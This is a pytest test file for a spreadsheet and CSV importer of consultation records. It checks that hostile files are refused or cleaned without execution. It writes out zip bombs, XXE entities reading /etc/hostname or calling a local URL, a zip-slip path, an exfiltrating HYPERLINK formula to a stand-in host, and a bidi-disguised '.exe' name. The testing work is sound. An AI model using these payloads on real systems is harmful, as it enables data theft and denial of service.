"""Files made to hurt: refused with one code or read with the harm taken out, in bounded memory, nothing executed."""

from __future__ import annotations

import datetime as dt
import io
import tracemalloc
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from app.base.errors import UserError
from app.importers.detect import detect, detect_bytes, load
from app.importers.limits import DEFAULT, Watch
from app.importers.plan import read, read_bytes
from models.records.imports import ImportPlan

TODAY = dt.date(2026, 11, 26)
HEAD = ["受付日", "お名前", "電話番号", "相談内容", "備考"]
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(identity: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{identity}" Type="{RELATIONS}/{kind}" Target="{target}"/>'


def packed(sheet: str | bytes, extra: dict[str, bytes] | None = None, shared: str = "") -> bytes:
    """A workbook with one sheet whose XML is given."""
    parts: dict[str, str | bytes] = {
        "_rels/.rels": f"<Relationships>{relation('r', 'officeDocument', 'xl/workbook.xml')}</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns:r="{RELATIONS}"><sheets><sheet name="a" r:id="s"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f"<Relationships>{relation('s', 'worksheet', 's.xml')}"
        f"{relation('t', 'sharedStrings', 't.xml')}</Relationships>",
        "xl/t.xml": f"<sst>{shared}</sst>",
        "xl/s.xml": sheet,
        **(extra or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, text in parts.items():
            file.writestr(name, text)
    return out.getvalue()


def cells(words: list[str]) -> str:
    return "".join(f'<c t="inlineStr"><is><t xml:space="preserve">{word}</t></is></c>' for word in words)


def sheet(rows: str, dimension: str = "A1:E3") -> str:
    head = f'<worksheet><dimension ref="{dimension}"/><sheetData><row r="1">{cells(HEAD)}</row>'
    return f"{head}{rows}</sheetData></worksheet>"


def plan_of(data: bytes, **limits: int) -> ImportPlan:
    plan = read_bytes(data, "x", today=TODAY, limits=replace(DEFAULT, **limits))
    assert plan.counts.total == sum(row.span for row in plan.rows)
    return plan


def refused(data: bytes, **limits: int) -> str:
    with pytest.raises(UserError) as caught:
        plan_of(data, **limits)
    return caught.value.code


def codes(plan: ImportPlan) -> set[str]:
    return {issue.code for row in plan.rows for issue in row.issues}


GOOD = ["R4.5.23", "グエン", "090-1234-5678", "残業代が出ない", ""]


def test_a_bomb_is_stopped_by_its_ratio_and_by_its_size() -> None:
    bomb = packed(b"<worksheet>" + b" " * 20_000_000)
    assert refused(bomb) == "file.bomb"
    assert refused(packed(sheet("")), unpacked_bytes=300) == "file.bomb"


def test_a_bomb_that_lies_about_its_size_is_stopped_while_it_streams() -> None:
    data = bytearray(packed(b"<worksheet>" + b" " * 3_000_000))
    real, false = (3_000_011).to_bytes(4, "little"), (500).to_bytes(4, "little")
    assert data.count(real) == 2
    assert refused(bytes(data.replace(real, false))) in ("file.bad_zip", "file.bad_xml")


def test_too_many_parts_and_encrypted_parts() -> None:
    assert refused(packed(sheet(""), {f"x{n}": b"" for n in range(60)}), parts=50) == "file.too_many_parts"
    data = bytearray(packed(sheet("")))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert refused(bytes(data)) == "file.encrypted"


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>',
        '<!DOCTYPE x SYSTEM "file:///etc/hostname"><worksheet/>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><worksheet>&e;</worksheet>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/"> %p;]><worksheet/>',
    ],
)
@pytest.mark.parametrize("part", ["xl/s.xml", "xl/workbook.xml", "xl/t.xml", "_rels/.rels"])
def test_no_document_type_gets_in_by_any_part(head: str, part: str) -> None:
    assert refused(packed(sheet(""), {part: head.encode()})) == "file.xml_entities"


def test_a_billion_rows_and_a_lying_dimension() -> None:
    assert refused(packed(sheet('<row r="1000000000"><c><v>1</v></c></row>'))) == "file.too_many_rows"
    plan = plan_of(packed(sheet(f'<row r="900000">{cells(GOOD)}</row>', "A1:XFD1048576")))
    assert plan.counts.ok == 1
    assert plan.counts.total == 900_000
    assert len(plan.rows) == 3
    many = "".join(f'<row r="{n}">{cells(GOOD)}</row>' for n in range(2, 40))
    assert refused(packed(sheet(many)), rows=20) == "file.too_many_rows"
    assert refused(packed(sheet(many)), cells=100) == "file.too_many_cells"


def test_a_row_of_a_million_cells_and_a_cell_of_ten_million_signs_cost_no_memory() -> None:
    wide = f'<row r="2">{"<c><v>1</v></c>" * 400_000}</row><row r="3">{cells(GOOD)}</row>'
    long = f'<row r="4">{cells(["R4.5.23", "あ" * 5_000_000])}</row>'
    data = packed(sheet(wide + long))
    tracemalloc.start()
    plan = plan_of(data, ratio=5000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 12_000_000
    status = {row.row: (row.status, row.issues[0].code if row.issues else "") for row in plan.rows}
    assert status[2] == ("refused", "cell.beyond")
    assert status[3][0] == "ok"
    assert status[4] == ("refused", "cell.too_long")
    assert max(len(cell) for row in plan.rows for cell in row.cells) <= 201


def test_one_text_shared_by_many_cells_cannot_grow_without_bound() -> None:
    rows = "".join(f'<row r="{n}"><c t="s"><v>0</v></c></row>' for n in range(2, 200))
    data = packed(sheet(rows), shared=f"<si><t>{'x' * 50_000}</t></si>")
    assert refused(data, text_chars=1_000_000) == "file.too_many_cells"


def test_an_endless_tag_is_refused() -> None:
    data = packed(b'<worksheet a="' + b"x" * 12_000_000)
    tracemalloc.start()
    assert refused(data, ratio=100_000) == "file.bad_xml"
    assert tracemalloc.get_traced_memory()[1] < 60_000_000
    tracemalloc.stop()


def test_nothing_is_computed_and_formula_looks_are_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.append(HEAD)
    page.append([*GOOD[:4], '=HYPERLINK("http://x.example/"&A2)'])
    page.append(["=TODAY()", "グエン", "090-1234-5679", "別の相談", None])
    page.append([*GOOD[:3], "三つ目の相談", "+81は使わない"])
    page.cell(5, 1, "R4.6.1")
    for column, text in enumerate(("グエン", "090-1234-5670", "四つ目", "=要確認"), 2):
        page.cell(5, column, text).data_type = "s"
    path = tmp_path / "a.xlsx"
    book.save(path)
    plan = read(path, today=TODAY)
    by_row = {row.row: row for row in plan.rows}
    assert by_row[2].status == "decide"
    assert by_row[2].value("contact.note") == ""
    assert by_row[2].cells[4].startswith("=HYPERLINK(")
    assert [i.code for i in by_row[3].issues if i.severity == "decide"] == ["cell.formula_unread"]
    assert by_row[4].value("contact.note") == "+81は使わない"
    assert by_row[5].value("contact.note") == "=要確認"
    assert by_row[5].status in ("ok", "fixed")


def test_a_stored_value_beside_a_formula_is_taken_and_said() -> None:
    row = f'<row r="2">{cells(GOOD[:3])}<c t="str"><f>A1&amp;B1</f><v>残業代が出ない</v></c></row>'
    plan = plan_of(packed(sheet(row)))
    assert plan.rows[1].value("contact.summary") == "残業代が出ない"
    assert "cell.formula_cached" in codes(plan)


def test_macros_and_links_are_only_reported() -> None:
    extra = {"xl/vbaProject.bin": b"Sub Auto_Open()", "xl/externalLinks/externalLink1.xml": b"<x/>"}
    plan = plan_of(packed(sheet(f'<row r="2">{cells(GOOD)}</row>'), extra))
    assert (plan.file.has_macros, plan.file.has_links, plan.counts.ok) == (True, True, 1)


def test_strange_signs_are_taken_out_and_shown() -> None:
    words = ["R4.5.23", "グ_x0000_エン", "090-1234-5678", "a_xD800_b\u202ecod.exe\u202c", "\u200fメモ_x0007_"]
    plan = plan_of(packed(sheet(f'<row r="2">{cells(words)}</row>')))
    row = plan.rows[1]
    assert row.value("person.name") == "グエン"
    assert row.value("contact.summary") == "a\ufffdbcod.exe"
    assert row.value("contact.note") == "メモ"
    assert row.cells[1] == "グ\\u0000エン"
    assert "\\u202ecod.exe" in row.cells[3]
    assert {"cell.nul", "cell.surrogate", "cell.bidi", "cell.control"} <= codes(plan)


def test_marks_that_a_right_to_left_script_needs_stay() -> None:
    words = cells(["R4.5.23", "علی", "", "سلام\u200f دنیا", ""])
    plan = plan_of(packed(sheet(f'<row r="2">{words}</row>')))
    assert plan.rows[1].value("contact.summary") == "سلام\u200f دنیا"


def test_text_tables_with_strange_bytes() -> None:
    data = ",".join(HEAD).encode() + b"\n" + ",".join(GOOD).encode().replace("グ".encode(), b"\0\xff\xe3") + b"\n"
    plan = plan_of(data)
    assert {"cell.nul", "cell.surrogate"} <= codes(plan)
    assert all("\0" not in cell for row in plan.rows for cell in row.cells)


def test_ten_megabytes_in_one_cell_spoil_one_row() -> None:
    lines = [",".join(HEAD), "R4.5.23,グエン,090-1234-5678," + "あ" * 10_000_000 + ",x", ",".join(GOOD)]
    plan = plan_of("\n".join(lines).encode())
    assert [row.status for row in plan.rows] == ["not_record", "refused", "ok"]
    middle = "R4.5.24,グエン,090-1234-5678," + "い" * 150_000 + ",x"
    plan = plan_of("\n".join([lines[0], middle, lines[2]]).encode())
    assert plan.rows[1].issues[0].code == "cell.too_long"
    assert plan.rows[1].issues[0].field == "contact.summary"
    assert plan.counts.ok == 1


def test_an_open_quote_spoils_one_row() -> None:
    text = (
        ",".join(HEAD)
        + '\nR4.5.23,"グエン,090-1234-5678,相談です,\n'
        + ",".join(GOOD)
        + '\nR4.6.1,a,"b\n'
        + "x\n" * 900
    )
    plan = plan_of(text.encode())
    assert plan.rows[1].status == "refused"
    assert plan.rows[1].issues[0].code == "file.bad_csv"
    assert plan.rows[2].status == "ok"


def test_far_dates_are_questions() -> None:
    rows = ["9999/12/31", "R200.1.1", "2027/1/1", "1950/1/1", "大正5年1月1日", "二〇二二年五月二十三日"]
    text = "受付日,相談内容\n" + "".join(f"{day},相談{number}\n" for number, day in enumerate(rows))
    plan = plan_of(text.encode())
    found = [row.issues[0].code if row.status == "decide" else row.value("contact.start") for row in plan.rows[1:]]
    assert found[:5] == ["date.too_far", "date.too_far", "date.future", "date.too_old", "date.too_old"]
    assert found[5] == "2022-05-23"


def test_what_a_file_is_comes_from_its_content(tmp_path: Path) -> None:
    path = tmp_path / "table.xlsx"
    path.write_bytes((",".join(HEAD) + "\n").encode("cp932"))
    assert detect(path) == "csv"
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    for data, code in (
        (old, "file.old_excel"),
        (old + "EncryptedPackage".encode("utf-16-le"), "file.encrypted"),
        (b"\x89PNG\r\n\x1a\n" + b"\0\1\2\3" * 90, "file.not_text"),
        (b"PK\x03\x04broken", "file.bad_zip"),
        (b"hello", "file.unknown_kind"),
    ):
        assert refused(data) == code
    assert detect_bytes(b'{"summary": "x"}') == "jsonl"
    for data, code in ((b"", "file.empty"), (b"\n \n", "file.empty"), (b"x" * 50, "file.too_large")):
        path.write_bytes(data)
        with pytest.raises(UserError) as caught:
            load(path, replace(DEFAULT, file_bytes=40))
        assert caught.value.code == code
    with pytest.raises(UserError, match=r"file\.unreadable"):
        load(tmp_path / "none")


def test_reading_can_be_cancelled_and_tells_how_far_it_is() -> None:
    text = ",".join(HEAD) + "\n" + (",".join(GOOD) + "\n") * 12_000
    seen: list[int] = []
    read_bytes(text.encode(), "x", today=TODAY, watch=Watch(progress=seen.append))
    assert len(seen) > 3
    with pytest.raises(UserError, match=r"file\.cancelled"):
        read_bytes(text.encode(), "x", today=TODAY, watch=Watch(cancelled=lambda: len(seen) > 0))


def test_a_workbook_without_a_sheet() -> None:
    assert refused(packed(sheet(""), {"xl/workbook.xml": b"<workbook/>"})) == "file.no_sheet"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("../../evil.txt", "x")
    assert refused(out.getvalue()) == "file.no_sheet"


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="2"><row r="3"><c><v>1</v></c></row></row>',
        '<c r="A2"><v>1</v></c>',
        '<row r="2"><c r="A2"><v>1</v></c><c r="A2"><v>2</v></c></row>',
        '<row r="2"><c r="A2"><v>1</v></c>',
    ],
)
def test_a_sheet_that_is_no_sheet_is_refused_rather_than_half_read(rows: str) -> None:
    assert refused(packed(sheet(rows))) == "file.bad_xml"


def test_reprs_tell_nothing() -> None:
    plan = plan_of(packed(sheet(f'<row r="2">{cells(GOOD)}</row>')))
    for thing in (plan, plan.rows[1], plan.columns[1], plan.file, plan.rows[1].issues):
        assert "グエン" not in repr(thing)
        assert "1234" not in repr(thing)
